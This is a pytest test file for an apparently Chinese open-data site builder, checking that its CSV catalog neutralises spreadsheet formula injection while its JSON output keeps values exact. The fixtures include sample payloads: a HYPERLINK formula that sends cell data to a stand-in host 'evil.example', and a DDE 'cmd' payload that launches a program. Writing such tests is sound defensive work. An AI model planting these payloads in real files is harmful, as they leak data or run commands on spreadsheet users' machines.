"""catalog.csv: a value a spreadsheet would run as a formula is neutralised (OWASP), catalog.json keeps it exact."""

from __future__ import annotations

import csv
import io
import json

import pytest

from xxgk.opendata import _csv

from ..conftest import GOOD_DOC
from .attempt import attempt

FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "doc_no": "+1+cmd|' /C calc'!A0号",  # ends in 号, so the 文号 rule lets the build publish it
    "summary": "-2+3 的概述",
    "keywords": "@SUM(1+1)",
}


def test_formulas_are_neutralised_in_csv_and_exact_in_json(make_site, run_cli):
    text = GOOD_DOC
    for key, value in FORMULAS.items():
        text = text.replace("validity: 有效\n", f"validity: 有效\n{key}: {json.dumps(value, ensure_ascii=False)}\n", 1)
    text = (
        text.replace("title: 坪山区委", "# title: ", 1)
        .replace('doc_no: ""\n', "", 1)
        .replace("keywords: [工作总结, 工作计划]\n", "")
    )
    root = make_site({"content/a.md": text})
    result = attempt(run_cli, root, ["build"])
    assert result.run.code == 0, result.run.err
    raw = (root / "site" / "catalog.csv").read_bytes().decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(raw)))
    cells = dict(zip(header, row, strict=True))
    assert cells["名称"] == "'" + FORMULAS["title"]
    assert cells["文号"] == "'" + FORMULAS["doc_no"]
    assert cells["内容概述"] == "'" + FORMULAS["summary"]
    assert cells["主题词"] == "'" + FORMULAS["keywords"]
    assert cells["索引号"] == "114403006955506492/2019-00001"  # ordinary values are left alone
    assert raw.split("\r\n")[1].startswith('"114403006955506492/2019-00001","\'=HYPERLINK(')  # every cell quoted
    document = json.loads((root / "site" / "catalog.json").read_text(encoding="utf-8"))["documents"][0]
    assert {key: document[key] for key in ("title", "doc_no", "summary")} == {
        key: FORMULAS[key] for key in ("title", "doc_no", "summary")
    }
    assert document["keywords"] == [FORMULAS["keywords"]]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("1=1", "1=1"),
        ("", ""),
        ("２０１９", "２０１９"),
        ("’=1", "’=1"),
    ],
)
def test_each_formula_start_is_neutralised(value, cell):
    raw = _csv(
        [
            {
                "index_no": value,
                **{
                    k: ""
                    for k in (
                        "title",
                        "publisher",
                        "written",
                        "published",
                        "category",
                        "genre",
                        "doc_no",
                        "summary",
                        "validity",
                        "repealed",
                        "interprets",
                        "replaced_by",
                        "url",
                        "json",
                    )
                },
                "keywords": [],
                "attachments": [],
            }
        ]
    )
    assert list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))[1][0] == cell
